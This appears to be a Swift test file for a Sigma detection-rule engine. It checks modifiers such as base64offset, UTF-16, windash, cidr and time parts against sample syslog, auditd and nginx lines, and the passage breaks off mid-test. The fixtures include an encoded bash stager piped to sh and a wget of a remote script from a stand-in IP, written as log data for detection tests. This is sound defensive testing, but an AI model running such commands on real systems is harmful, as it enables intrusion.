import DetectionRules
import Foundation
import PatternMatching
import Testing

/// Sigma value modifiers (rule-format §3.5, Sigma modifiers appendix 2.1), each checked through a
/// loaded rule and the evaluator on real-shaped lines: one that must match, one that must not.
@Suite("Sigma modifiers")
struct ModifierTests {
    // MARK: Lines

    static let auth = "{product: linux, service: auth}"
    static let auditd = "{product: linux, service: auditd}"
    static let web = "{category: webserver}"
    static let linux = "{product: linux}"

    /// An nginx combined-format line (a 404 of 153 bytes) and a 200 of 5120 bytes.
    static let nginx404 = "192.0.2.7 - - [07/Mar/2025:10:00:21 +0000] \"GET /wp-login.php HTTP/1.1\" 404 153 \"-\" \"Mozilla/5.0 (X11; Linux x86_64)\""
    static let nginx200 = "198.51.100.20 - - [07/Mar/2025:23:59:59 +0100] \"GET /index.html HTTP/1.1\" 200 5120 \"https://example.org/\" \"curl/8.5.0\""
    /// sudo running a base64 stager: the payload `x` + `echo hi;/bin/bash -i` (variant 1 of base64offset).
    static let sudoBase64 = "Mar  7 10:01:02 web01 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/bash -c echo eGVjaG8gaGk7L2Jpbi9iYXNoIC1p | base64 -d | sh"
    /// auditd EXECVE: `bash -c 'echo eGVjaG8gaGk7L2Jpbi9iYXNoIC1p | base64 -d | sh'` (a2 hex-encoded).
    static let execveBash = "type=EXECVE msg=audit(1741341492.117:4401): argc=3 a0=\"bash\" a1=\"-c\" a2=6563686F206547566A6147386761476B374C324A706269396959584E6F49433170207C20626173653634202D64207C207368"
    /// The same stager for `/bin/sh` (no `/bin/bash` in any shift).
    static let execveSh = "type=EXECVE msg=audit(1741341493.001:4402): argc=3 a0=\"bash\" a1=\"-c\" a2=6563686F205A574E6F6279426F61547376596D6C754C334E6F49433170207C20626173653634202D64207C207368"
    /// auditd EXECVE of `wget http://203.0.113.45/x.sh` (a1 hex-encoded).
    static let execveWget = "type=EXECVE msg=audit(1741341492.117:4401): argc=2 a0=\"wget\" a1=687474703A2F2F3230332E302E3131332E34352F782E7368"
    /// auditd SYSCALL of a root process started by login uid 1000, and one by root itself.
    static let syscallEscalated = "type=SYSCALL msg=audit(1741341492.117:4401): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2a0 a1=55d0c2b0 a2=55d0c2c0 a3=0 items=2 ppid=2201 pid=2202 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"rootcmd\""
    static let syscallRoot = "type=SYSCALL msg=audit(1741341500.000:4410): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2a0 a1=55d0c2b0 a2=55d0c2c0 a3=0 items=2 ppid=1 pid=2210 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=1 comm=\"cron\" exe=\"/usr/sbin/cron\" key=(null)"

    // MARK: Helpers

    private func rule(_ detection: String, logsource: String = ModifierTests.auth, extra: String = "") throws -> DetectionRule {
        try RuleFixtures.rule(RuleFixtures.document(logsource: logsource, detection: detection, extra: extra))
    }

    /// True when the rule matches the line; checks on the way that the rule's gate (the literal
    /// prefilter the scanner runs first) admits every line the rule matches.
    private func matches(_ rule: DetectionRule, _ line: [UInt8], sourceLocation: SourceLocation = #_sourceLocation) -> Bool {
        let result = RuleFixtures.evaluate(rule, line)
        if case .engineError(let code) = result.outcome { Issue.record("engine error \(code)", sourceLocation: sourceLocation) }
        if result.isMatched, let gate = rule.gate {
            #expect(RuleFixtures.gateAdmits(gate, line), "gate \(gate.map { String(decoding: $0.bytes, as: UTF8.self) }) drops a matching line", sourceLocation: sourceLocation)
        }
        return result.isMatched
    }

    private func matches(_ rule: DetectionRule, _ line: String, sourceLocation: SourceLocation = #_sourceLocation) -> Bool {
        matches(rule, Array(line.utf8), sourceLocation: sourceLocation)
    }

    private func matches(_ detection: String, _ line: String, logsource: String = ModifierTests.auth, sourceLocation: SourceLocation = #_sourceLocation) throws -> Bool {
        matches(try self.rule(detection, logsource: logsource), line, sourceLocation: sourceLocation)
    }


    /// The load error message for a rule, or nil when it loads.
    private func loadError(_ detection: String, logsource: String = ModifierTests.auth, extra: String = "") -> String? {
        RuleFixtures.loadError(RuleFixtures.document(logsource: logsource, detection: detection, extra: extra))?.message
    }

    private func expectLoadError(_ detection: String, logsource: String = ModifierTests.auth, extra: String = "", containing fragments: [String], sourceLocation: SourceLocation = #_sourceLocation) {
        guard let message = loadError(detection, logsource: logsource, extra: extra) else {
            Issue.record("the rule loaded; expected an error containing \(fragments)", sourceLocation: sourceLocation)
            return
        }
        for fragment in fragments {
            #expect(message.contains(fragment), "\(message)", sourceLocation: sourceLocation)
        }
    }

    /// The compiled pattern sources of the first key of the first selection.
    private func patternSources(_ rule: DetectionRule) -> [String] {
        guard case .maps(let maps) = rule.selections[0].body, let test = maps.first?.first else { return [] }
        return test.values.compactMap { value in
            guard case .pattern(let pattern) = value else { return nil }
            return String(decoding: pattern.source, as: UTF8.self)
        }
    }

    /// pySigma's base64offset for `value`, computed independently of the compiler:
    /// `b64encode(i * b' ' + v)[(0, 2, 3)[i] : (None, -3, -2)[(len(v) + i) % 3]]`.
    static func pySigmaBase64Offset(_ value: String) -> [String] {
        let bytes = Array(value.utf8)
        let starts = [0, 2, 3]
        let ends: [Int?] = [nil, -3, -2]
        return (0..<3).map { shift in
            let encoded = Array(Data(Array(repeating: UInt8(ascii: " "), count: shift) + bytes).base64EncodedString().utf8)
            let end = ends[(bytes.count + shift) % 3].map { encoded.count + $0 } ?? encoded.count
            return String(decoding: encoded[starts[shift]..<end], as: UTF8.self)
        }
    }

    // MARK: base64, base64offset

    @Test("base64 matches the encoded value, case-sensitively")
    func base64() throws {
        // A stager that pipes `L2Jpbi9iYXNo` (/bin/bash) through `base64 -d`; base64 text is case-significant.
        let rule = try self.rule("selection:\n    COMMAND|base64|contains: '/bin/bash'\ncondition: selection")
        let line = "Mar  7 10:01:02 web01 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/sh -c echo L2Jpbi9iYXNo | base64 -d"
        #expect(matches(rule, line))
        #expect(!matches(rule, line.replacingOccurrences(of: "L2Jpbi9iYXNo", with: "l2jpbi9iyxno")))
        #expect(!matches(rule, RuleFixtures.sudoRoot))
        #expect(patternSources(rule) == ["L2Jpbi9iYXNo"])
    }

    @Test("base64offset gives pySigma's three shifted variants", arguments: ["/bin/bash", "sh -c", "curl http"])
    func base64offsetVariants(value: String) throws {
        // Rules imported from SigmaHQ must find exactly what pySigma's backends find.
        let expected = Self.pySigmaBase64Offset(value)
        let rule = try self.rule("selection:\n    message|base64offset|contains: '\(value)'\ncondition: selection")
        let source = "(?:" + expected.map { String(decoding: LiteralEscaping.pattern(matching: Array($0.utf8)), as: UTF8.self) }.joined(separator: "|") + ")"
        #expect(patternSources(rule) == [source])
    }

    @Test("pySigma's base64offset variants of /bin/bash and sh -c, as python3 computes them")
    func base64offsetKnownValues() {
        // Pins the independent reference above to values computed with python3's base64 module.
        #expect(Self.pySigmaBase64Offset("/bin/bash") == ["L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"])
        #expect(Self.pySigmaBase64Offset("sh -c") == ["c2ggLW", "NoIC1j", "zaCAtY"])
    }

    @Test("base64offset finds the value at each of the three byte offsets of a longer payload")
    func base64offsetShifts() throws {
        // `echo hi;/bin/bash -i` with 0, 1 and 2 leading bytes puts /bin/bash at all three alignments.
        let rule = try self.rule("selection:\n    COMMAND|base64offset|contains: '/bin/bash'\ncondition: selection")
        let prefix = "Mar  7 10:01:02 web01 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/bash -c echo "
        for payload in ["ZWNobyBoaTsvYmluL2Jhc2ggLWk=", "eGVjaG8gaGk7L2Jpbi9iYXNoIC1p", "eHllY2hvIGhpOy9iaW4vYmFzaCAtaQ=="] {
            #expect(matches(rule, prefix + payload + " | base64 -d | sh"), "\(payload)")
        }
        // `echo hi;/bin/sh -i` holds none of the variants.
        #expect(!matches(rule, prefix + "ZWNobyBoaTsvYmluL3NoIC1p | base64 -d | sh"))
    }

    @Test("base64offset reads hex-encoded auditd EXECVE arguments decoded")
    func base64offsetOnAuditHex() throws {
        // auditd hex-encodes arguments with spaces; the rule must see the decoded command line.
        let rule = try self.rule("selection:\n    a2|base64offset|contains: '/bin/bash'\ncondition: selection", logsource: Self.auditd)
        #expect(matches(rule, Self.execveBash))
        #expect(!matches(rule, Self.execveSh))
    }

    @Test("utf16le|base64offset finds a base64-encoded UTF-16 command (the PowerShell -enc shape)")
    func utf16ThenBase64() throws {
        // Transforms apply in the order written: encode as UTF-16LE first, then base64.
        let rule = try self.rule("selection:\n    message|utf16le|base64offset|contains: 'whoami'\ncondition: selection", logsource: Self.linux)
        // base64 of UTF-16LE `cmd.exe /c whoami`.
        #expect(matches(rule, "Mar  7 10:05:00 web01 smbd[812]: client sent YwBtAGQALgBlAHgAZQAgAC8AYwAgAHcAaABvAGEAbQBpAA=="))
        #expect(!matches(rule, "Mar  7 10:05:00 web01 smbd[812]: client sent d2hvYW1p"))
    }

    // MARK: UTF-16

    /// A syslog line whose message carries `bytes` after an ASCII prefix (binary junk logged as is).
    private func lineWith(_ bytes: [UInt8]) -> [UInt8] {
        Array("Mar  7 10:02:00 web01 smbd[812]: share path: ".utf8) + bytes
    }

    /// `cmd.` in UTF-16LE, `cmd` in UTF-16BE at the end of the line, and `cmd.` in UTF-16LE after a
    /// byte order mark. (ASCII in UTF-16BE followed by more text holds the UTF-16LE bytes one byte
    /// later, `00 63 00 6d 00 64 00 2e`, so a `contains` search cannot tell them apart there: the BE
    /// sample ends the line.)
    static let cmdLE: [UInt8] = [0x63, 0x00, 0x6d, 0x00, 0x64, 0x00, 0x2e, 0x00]
    static let cmdBE: [UInt8] = [0x00, 0x63, 0x00, 0x6d, 0x00, 0x64]
    static let cmdBOM: [UInt8] = [0xff, 0xfe] + cmdLE

    @Test("utf16le, wide, utf16be and utf16 match their own encoding only", arguments: [
        // Columns: LE, BE, BOM + LE (which contains the LE bytes).
        ("utf16le", [true, false, true]),
        ("wide", [true, false, true]),
        ("utf16be", [false, true, false]),
        ("utf16", [false, false, true]),
    ])
    func utf16(modifier: String, expected: [Bool]) throws {
        // Windows strings logged raw are UTF-16: the keyword must be searched as those bytes.
        let rule = try self.rule("keywords:\n    '|\(modifier)':\n        - 'cmd'\ncondition: keywords", logsource: Self.linux)
        #expect([Self.cmdLE, Self.cmdBE, Self.cmdBOM].map { matches(rule, lineWith($0)) } == expected)
        // The ASCII spelling is not the UTF-16 one.
        #expect(!matches(rule, lineWith(Array("cmd.exe".utf8))))
    }

    @Test("utf16le on a field compares the whole field unless contains is given")
    func utf16OnField() throws {
        // The transform keeps the value's anchoring: `message|wide` is the whole message.
        let whole = try self.rule("selection:\n    message|wide: 'cmd'\ncondition: selection", logsource: Self.linux)
        let contains = try self.rule("selection:\n    message|wide|contains: 'cmd'\ncondition: selection", logsource: Self.linux)
        let message: [UInt8] = Array("Mar  7 10:02:00 web01 smbd[812]: ".utf8) + [0x63, 0x00, 0x6d, 0x00, 0x64, 0x00]
        #expect(matches(whole, message))
        #expect(!matches(whole, lineWith([0x63, 0x00, 0x6d, 0x00, 0x64, 0x00])))
        #expect(matches(contains, lineWith([0x63, 0x00, 0x6d, 0x00, 0x64, 0x00])))
    }

    // MARK: windash

    @Test("windash matches every dash-like character in the flag", arguments: ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"])
    func windash(dash: String) throws {
        // `sh -c` typed with an en dash (copy-paste from a web page) is still `sh -c`.
        let rule = try self.rule("selection:\n    COMMAND|windash|contains: ' -c '\ncondition: selection")
        let line = "Mar  7 10:01:02 web01 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/sh \(dash)c id"
        #expect(matches(rule, line))
    }

    @Test("windash does not match other punctuation or a missing dash")
    func windashNonMatching() throws {
        // Only the five dash-like characters stand for `-`.
        let rule = try self.rule("selection:\n    COMMAND|windash|contains: ' -c '\ncondition: selection")
        let prefix = "Mar  7 10:01:02 web01 sudo:   alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/sh "
        #expect(!matches(rule, prefix + "+c id"))
        #expect(!matches(rule, prefix + "c id"))
        #expect(!matches(rule, prefix + "\\c id"))
        // A value written with an en dash also matches a plain hyphen.
        let enDash = try self.rule("selection:\n    COMMAND|windash|contains: ' \u{2013}c '\ncondition: selection")
        #expect(matches(enDash, prefix + "-c id"))
    }

    // MARK: cidr

    @Test("cidr matches addresses inside the network", arguments: [
        ("203.0.113.0/24", "Mar  7 10:00:21 web01 sshd[2101]: Failed password for invalid user admin from 203.0.113.50 port 40022 ssh2", true),
        ("203.0.113.0/24", "Mar  7 10:00:21 web01 sshd[2101]: Failed password for invalid user admin from 203.0.114.50 port 40022 ssh2", false),
        ("203.0.113.48/29", "Mar  7 10:00:21 web01 sshd[2101]: Failed password for invalid user admin from 203.0.113.50 port 40022 ssh2", true),
        ("203.0.113.56/29", "Mar  7 10:00:21 web01 sshd[2101]: Failed password for invalid user admin from 203.0.113.50 port 40022 ssh2", false),
        ("0.0.0.0/0", "Mar  7 10:00:21 web01 sshd[2101]: Failed password for invalid user admin from 198.51.100.1 port 40022 ssh2", true),
        ("203.0.113.50", "Mar  7 10:00:21 web01 sshd[2101]: Failed password for invalid user admin from 203.0.113.50 port 40022 ssh2", true),
        ("2001:db8::/32", "Mar  7 10:00:21 web01 sshd[2101]: Failed password for root from 2001:db8:4:5::17 port 40022 ssh2", true),
        ("2001:db8::/32", "Mar  7 10:00:21 web01 sshd[2101]: Failed password for root from 2001:db9::17 port 40022 ssh2", false),
        ("fe80::/10", "Mar  7 10:00:21 web01 sshd[2101]: Failed password for root from fe80::1%eth0 port 40022 ssh2", true),
        // An IPv4 network does not contain an IPv6 address, and the other way round.
        ("2001:db8::/32", "Mar  7 10:00:21 web01 sshd[2101]: Failed password for root from 203.0.113.50 port 40022 ssh2", false),
        ("10.0.0.0/8", "Mar  7 10:00:21 web01 sshd[2101]: Failed password for root from 2001:db8::a00:1 port 40022 ssh2", false),
    ])
    func cidr(network: String, line: String, expected: Bool) throws {
        // Allow-lists and threat ranges are written as networks, not as regexes over digits.
        #expect(try matches("selection:\n    src_ip|cidr: '\(network)'\ncondition: selection", line) == expected)
    }

    @Test("cidr reads an IPv4-mapped IPv6 address as the IPv4 address")
    func cidrMapped() throws {
        // Dual-stack sshd writes `::ffff:203.0.113.50`; a v4 allow-list must still apply.
        let line = "Mar  7 10:00:21 web01 sshd[2101]: Failed password for root from ::ffff:203.0.113.50 port 40022 ssh2"
        #expect(try matches("selection:\n    src_host|cidr: '203.0.113.0/24'\ncondition: selection", line))
        #expect(try !matches("selection:\n    src_host|cidr: '198.51.100.0/24'\ncondition: selection", line))
        // The mapped network written in IPv6 notation (prefix counted over 128 bits) holds it too.
        #expect(try matches("selection:\n    src_host|cidr: '::ffff:203.0.113.0/120'\ncondition: selection", line))
        #expect(try matches("selection:\n    src_ip|cidr: '::ffff:203.0.113.0/120'\ncondition: selection", line))
    }

    @Test("cidr on a web client, a list of networks, and a non-address field")
    func cidrWeb() throws {
        // A list is an OR of networks; a field that is no address never matches.
        let rule = try self.rule("selection:\n    client|cidr:\n        - '10.0.0.0/8'\n        - '192.0.2.0/24'\ncondition: selection", logsource: Self.web)
        #expect(matches(rule, Self.nginx404))
        #expect(!matches(rule, Self.nginx200))
        #expect(try !matches("selection:\n    path|cidr: '0.0.0.0/0'\ncondition: selection", Self.nginx404, logsource: Self.web))
    }

    @Test("a cidr with host bits set, a bad prefix or a bad address is a load error", arguments: [
        "10.1.2.3/8", "203.0.113.1/24", "10.0.0.0/33", "2001:db8::1/32", "2001:db8::/129", "300.1.1.0/24", "10.0.0.0/", "10.0.0.0/+8", "10.0.0.0/8/8", "not-a-network", "::ffff:203.0.113.1/120",
    ])
    func badCidr(network: String) {
        // `10.1.2.3/8` is almost always a typo: refuse it rather than guess host or network.
        expectLoadError("selection:\n    src_ip|cidr: '\(network)'\ncondition: selection", containing: ["is not an IPv4 or IPv6 network", network])
    }

    // MARK: lt, lte, gt, gte

    @Test("numeric comparisons read the field as a decimal number", arguments: [
        ("status|gte: 400", true), ("status|gte: 404", true), ("status|gt: 404", false), ("status|lt: 500", true),
        ("status|lte: 403", false), ("bytes|gt: 100", true), ("bytes|lt: 100", false), ("bytes|lte: 153.0", true),
        ("bytes|gt: 152.5", true), ("bytes|gte: -1", true), ("bytes|gt: 1e2", true),
    ])
    func numeric(key: String, expected: Bool) throws {
        // `404` must compare as a number: as text, `"404" > "1000"`.
        #expect(try matches("selection:\n    \(key)\ncondition: selection", Self.nginx404, logsource: Self.web) == expected)
    }

    @Test("numeric comparison is numeric, not textual")
    func numericNotTextual() throws {
        // 5120 > 1000 although "5120" < "9"; a 153-byte response is not > 1000.
        let rule = try self.rule("selection:\n    bytes|gt: 1000\ncondition: selection", logsource: Self.web)
        #expect(matches(rule, Self.nginx200))
        #expect(!matches(rule, Self.nginx404))
    }

    @Test("a non-numeric or absent field never compares")
    func numericOnText() throws {
        // `bytes` `-` is absent and `method` is text: neither is less than anything.
        let rule = try self.rule("selection:\n    bytes|lt: 1000000\ncondition: selection", logsource: Self.web)
        #expect(!matches(rule, "192.0.2.7 - - [07/Mar/2025:10:00:21 +0000] \"HEAD / HTTP/1.1\" 304 - \"-\" \"curl/8.5.0\""))
        #expect(try !matches("selection:\n    method|lt: 1000000\ncondition: selection", Self.nginx404, logsource: Self.web))
    }

    @Test("numeric comparisons on auditd fields")
    func numericAudit() throws {
        // `auid` of a real login is ≥ 1000; system daemons have auid 0 (or unset).
        let rule = try self.rule("selection:\n    auid|gte: 1000\ncondition: selection", logsource: Self.auditd)
        #expect(matches(rule, Self.syscallEscalated))
        #expect(!matches(rule, Self.syscallRoot))
    }

    @Test("a comparison with a non-number is a load error", arguments: ["status|gte: many", "status|lt: ''", "status|gt: '4xx'", "status|lte: .inf", "status|gte: nan", "status|gt: inf"])
    func numericNotANumber(key: String) {
        // `gte: many` would otherwise never match and hide the mistake.
        expectLoadError("selection:\n    \(key)\ncondition: selection", logsource: Self.web, containing: ["compares with a number"])
    }

    @Test("two comparisons on one key are a load error")
    func twoComparisons() {
        // `|gt|lt` is not a range: write two keys.
        expectLoadError("selection:\n    status|gt|lt: 400\ncondition: selection", logsource: Self.web, containing: ["only one of lt, lte, gt, gte"])
    }

    // MARK: neq

    @Test("neq: the field is present and equal to none of the values", arguments: [
        ("USER|neq: root", RuleFixtures.sudoRoot, false),
        ("USER|neq: postgres", RuleFixtures.sudoRoot, true),
        ("USER|neq: ROOT", RuleFixtures.sudoRoot, false),
        ("USER|neq|cased: ROOT", RuleFixtures.sudoRoot, true),
        ("USER|neq:\n        - postgres\n        - root", RuleFixtures.sudoRoot, false),
        ("USER|neq:\n        - postgres\n        - www-data", RuleFixtures.sudoRoot, true),
        ("COMMAND|neq|startswith: '/bin/'", RuleFixtures.sudoRoot, false),
        ("COMMAND|neq|startswith: '/usr/bin/'", RuleFixtures.sudoRoot, true),
        // Absent field: sshd lines have no USER= segment, so they are not "different from root".
        ("USER|neq: root", RuleFixtures.failedPassword, false),
    ])
    func neq(key: String, line: String, expected: Bool) throws {
        // "sudo to anyone but root" must not fire on lines that have no target user at all.
        #expect(try matches("selection:\n    \(key)\ncondition: selection", line) == expected)
    }

    @Test("neq with a number compares numerically")
    func neqNumeric() throws {
        // `status|neq: 0404` is 404; `200.0` equals 200.
        #expect(try !matches("selection:\n    status|neq: '0404'\ncondition: selection", Self.nginx404, logsource: Self.web))
        #expect(try matches("selection:\n    status|neq: '0404'\ncondition: selection", Self.nginx200, logsource: Self.web))
        #expect(try !matches("selection:\n    status|neq: 200.0\ncondition: selection", Self.nginx200, logsource: Self.web))
        #expect(try matches("selection:\n    auid|neq: 0\ncondition: selection", Self.syscallEscalated, logsource: Self.auditd))
        #expect(try !matches("selection:\n    auid|neq: 0\ncondition: selection", Self.syscallRoot, logsource: Self.auditd))
    }

    @Test("neq combined with cidr excludes a network")
    func neqCidr() throws {
        // "logins from outside the lab network" in one key.
        let rule = try self.rule("selection:\n    src_ip|neq|cidr: '192.0.2.0/24'\ncondition: selection")
        #expect(matches(rule, RuleFixtures.failedPassword))
        #expect(!matches(rule, RuleFixtures.accepted))
    }

    @Test("neq and all together are a load error")
    func neqAll() {
        // "different from every value and all of them" is contradictory; refuse it.
        expectLoadError("selection:\n    USER|neq|all:\n        - root\n        - admin\ncondition: selection", containing: ["'neq' and 'all' exclude one another"])
    }

    // MARK: Time parts

    @Test("time parts of an RFC 3164 stamp; year and week never match without a year", arguments: [
        ("timestamp|hour: 10", true), ("timestamp|hour: 11", false), ("timestamp|minute: 0", true), ("timestamp|minute|gte: 1", false),
        ("timestamp|day: 7", true), ("timestamp|day|lt: 7", false), ("timestamp|month: 3", true), ("timestamp|month|gt: 3", false),
        ("timestamp|year: 2025", false), ("timestamp|year|gte: 0", false), ("timestamp|week|gte: 1", false),
    ])
    func timePartsRFC3164(key: String, expected: Bool) throws {
        // "logins at night" rules read the hour as written; a year-less stamp has no year to compare.
        #expect(try matches("selection:\n    \(key)\ncondition: selection", RuleFixtures.failedPassword) == expected)
    }

    @Test("time parts of an RFC 3339 stamp are read as written, without zone conversion", arguments: [
        ("timestamp|hour: 23", true), ("timestamp|hour: 22", false), ("timestamp|year: 2025", true), ("timestamp|year: 2024", false),
        ("timestamp|week: 10", true), ("timestamp|week: 9", false), ("timestamp|month: 3", true), ("timestamp|day: 7", true),
        ("timestamp|minute|gte: 59", true), ("timestamp|hour|lt: 6", false),
    ])
    func timePartsRFC3339(key: String, expected: Bool) throws {
        // The Sigma appendix: time modifiers do no zone conversion (+01:00 stays hour 23).
        let line = "2025-03-07T23:59:30.123456+01:00 web01 sshd[2101]: Failed password for root from 203.0.113.50 port 40023 ssh2"
        #expect(try matches("selection:\n    \(key)\ncondition: selection", line) == expected)
    }

    @Test("ISO weeks at year ends")
    func isoWeeks() throws {
        // 2021-01-01 is in week 53 of 2020; 2024-12-31 is in week 1 of 2025.
        let week53 = "2021-01-01T08:00:00Z web01 sshd[2101]: Failed password for root from 203.0.113.50 port 40023 ssh2"
        let week1 = "2024-12-31T08:00:00Z web01 sshd[2101]: Failed password for root from 203.0.113.50 port 40023 ssh2"
        #expect(try matches("selection:\n    timestamp|week: 53\ncondition: selection", week53))
        #expect(try matches("selection:\n    timestamp|week: 1\ncondition: selection", week1))
        #expect(try !matches("selection:\n    timestamp|week: 53\ncondition: selection", week1))
    }

    @Test("time parts of an auditd epoch are read in UTC", arguments: [
        ("timestamp|hour: 9", true), ("timestamp|hour: 10", false), ("timestamp|minute: 58", true), ("timestamp|year: 2025", true),
        ("timestamp|month: 3", true), ("timestamp|day: 7", true), ("timestamp|week: 10", true), ("timestamp|minute|lt: 58", false),
    ])
    func timePartsAuditd(key: String, expected: Bool) throws {
        // 1741341492 is 2025-03-07 09:58:12 UTC.
        #expect(try matches("selection:\n    \(key)\ncondition: selection", Self.execveWget, logsource: Self.auditd) == expected)
    }

    @Test("time parts of a web access stamp are read as written")
    func timePartsWeb() throws {
        // `[07/Mar/2025:23:59:59 +0100]`: hour 23, year 2025, as the log says.
        #expect(try matches("selection:\n    timestamp|hour: 23\ncondition: selection", Self.nginx200, logsource: Self.web))
        #expect(try !matches("selection:\n    timestamp|hour: 22\ncondition: selection", Self.nginx200, logsource: Self.web))
        #expect(try matches("selection:\n    timestamp|year: 2025\ncondition: selection", Self.nginx200, logsource: Self.web))
    }

    @Test("time parts of a journald entry's microsecond stamp are read in UTC", arguments: [
        ("timestamp|hour: 22", true), ("timestamp|hour: 23", false), ("timestamp|minute: 13", true), ("timestamp|year: 2023", true),
        ("timestamp|week: 46", true), ("timestamp|day: 14", true), ("timestamp|month|lt: 11", false),
    ])
    func timePartsJournal(key: String, expected: Bool) throws {
        // `journalctl -o json` stamps are µs since the epoch: 1700000000123456 is 2023-11-14 22:13:20 UTC.
        let line = #"{"__REALTIME_TIMESTAMP":"1700000000123456","_HOSTNAME":"web01","SYSLOG_IDENTIFIER":"sshd","_PID":"2101","MESSAGE":"Failed password for root from 203.0.113.5 port 22 ssh2"}"#
        #expect(try matches("selection:\n    \(key)\ncondition: selection", line, logsource: "{product: linux, service: journald}") == expected)
    }

    @Test("a time part compares with a whole number, one part per key")
    func timePartErrors() {
        // `hour: ten` or `hour|minute` would otherwise load a rule that never matches.
        expectLoadError("selection:\n    timestamp|hour: ten\ncondition: selection", containing: ["whole number", "'ten'"])
        expectLoadError("selection:\n    timestamp|hour|minute: 10\ncondition: selection", containing: ["only one time part"])
        expectLoadError("selection:\n    timestamp|hour|contains: 10\ncondition: selection", containing: ["take no string modifiers"])
    }

    // MARK: fieldref

    @Test("fieldref compares with another field of the same record")
    func fieldref() throws {
        // sudo run in one's own home folder: PWD ends with the invoking user's name.
        let rule = try self.rule("selection:\n    PWD|fieldref|endswith: SUDO_USER\ncondition: selection")
        #expect(matches(rule, RuleFixtures.sudoRoot))
        #expect(!matches(rule, "Mar  7 10:00:24 web01 sudo:   alice : TTY=pts/0 ; PWD=/srv/www ; USER=root ; COMMAND=/bin/bash"))
        // Whole-field equality, case-insensitive unless cased.
        #expect(try !matches("selection:\n    USER|fieldref: SUDO_USER\ncondition: selection", RuleFixtures.sudoRoot))
        let selfSudo = "Mar  7 10:00:24 web01 sudo:   ALICE : TTY=pts/0 ; PWD=/home/alice ; USER=alice ; COMMAND=/bin/bash"
        #expect(try matches("selection:\n    USER|fieldref: SUDO_USER\ncondition: selection", selfSudo))
        #expect(try !matches("selection:\n    USER|fieldref|cased: SUDO_USER\ncondition: selection", selfSudo))
        #expect(try matches("selection:\n    PWD|fieldref|contains: USER\ncondition: selection", selfSudo))
        #expect(try matches("selection:\n    PWD|fieldref|startswith: cwd\ncondition: selection", selfSudo))
    }

    @Test("fieldref with neq: the fields differ")
    func fieldrefNeq() throws {
        // auditd: effective uid differs from the login uid (privilege change).
        let rule = try self.rule("selection:\n    euid|fieldref|neq: auid\ncondition: selection", logsource: Self.auditd)
        #expect(matches(rule, Self.syscallEscalated))
        #expect(!matches(rule, Self.syscallRoot))
    }

    @Test("fieldref naming an unknown field is a load error; fieldref takes no encodings or regex")
    func fieldrefErrors() {
        // A misspelt referenced field would make the comparison silently never hold.
        expectLoadError("selection:\n    USER|fieldref: sudo_usr\ncondition: selection", containing: ["fieldref names an unknown field 'sudo_usr'"])
        expectLoadError("selection:\n    user|fieldref: tagret_user\ncondition: selection", containing: ["fieldref names an unknown field 'tagret_user'"])
        expectLoadError("selection:\n    USER|fieldref|base64: SUDO_USER\ncondition: selection", containing: ["'fieldref' takes only"])
        expectLoadError("selection:\n    USER|fieldref|re: SUDO_USER\ncondition: selection", containing: ["'re' cannot be combined"])
    }

    // MARK: expand

    private static let expandRule = RuleFixtures.document(id: "expand-admins", detection: "selection:\n    user|expand: '%admin_accounts%'\ncondition: selection")

    @Test("expand substitutes each placeholder value from the loader")
    func expand() throws {
        // A profile lists the admin accounts of this estate; the rule names the placeholder.
        let rules = try RuleLoader(placeholders: ["admin_accounts": ["root", "admin"]]).loadDocuments(Self.expandRule, path: "t.yml")
        let rule = try #require(rules.first)
        #expect(matches(rule, RuleFixtures.failedPassword))
        #expect(matches(rule, RuleFixtures.failedRoot))
        #expect(!matches(rule, RuleFixtures.accepted))
    }

    @Test("expand inside a longer value and in keywords")
    func expandInValue() throws {
        // `%name%` is replaced where it stands; the rest of the value is kept.
        let yaml = RuleFixtures.document(detection: "selection:\n    message|expand|contains: 'user %admin_accounts% from'\nkeywords:\n    '|expand':\n        - 'invalid user %admin_accounts%'\ncondition: selection and keywords")
        let rule = try #require(try RuleLoader(placeholders: ["admin_accounts": ["admin", "oracle"]]).loadDocuments(yaml, path: "t.yml").first)
        #expect(matches(rule, RuleFixtures.failedPassword))
        #expect(!matches(rule, RuleFixtures.failedRoot))
    }

    @Test("a placeholder without values skips the rule with a reason; it is not a load error")
    func expandMissing() throws {
        // A shared rule set must still load on a host whose profile does not define every placeholder.
        let folder = try RuleFolder()
        defer { folder.remove() }
        let path = try folder.write("expand.yml", Self.expandRule)
        try folder.write("other.yml", RuleFixtures.document(id: "other", detection: "k: xyz\ncondition: k"))
        for loader in [RuleLoader(), RuleLoader(placeholders: ["admin_accounts": []]), RuleLoader(placeholders: ["other": ["x"]])] {
            let set = try loader.load(paths: [folder.path])
            #expect(set.rules.map(\.id) == ["other"])
            let skipped = try #require(set.skipped.first)
            #expect(set.skipped.count == 1)
            #expect(skipped.id == "expand-admins")
            #expect(skipped.path == path)
            #expect(skipped.title == "Test rule")
            #expect(skipped.reason.contains("%admin_accounts%"))
            #expect(skipped.reason.contains("no values"))
        }
        // loadDocuments leaves it out without an error.
        #expect(try RuleLoader().loadDocuments(Self.expandRule, path: "t.yml").isEmpty)
    }

    @Test("with usesTestPlaceholders the rule's tests.context.placeholders supply the values")
    func expandFromTests() throws {
        // `spoor test` runs a rule with the values its tests pin, without a profile.
        let yaml = RuleFixtures.document(id: "expand-tested", detection: "selection:\n    user|expand: '%admin_accounts%'\ncondition: selection", extra: """
            tests:
                context:
                    placeholders:
                        admin_accounts: [admin]
                cases:
                    - name: admin
                      input: "\(RuleFixtures.failedPassword)"
                      expect: [{rule: expand-tested}]
            """)
        let rule = try #require(try RuleLoader(usesTestPlaceholders: true).loadDocuments(yaml, path: "t.yml").first)
        #expect(matches(rule, RuleFixtures.failedPassword))
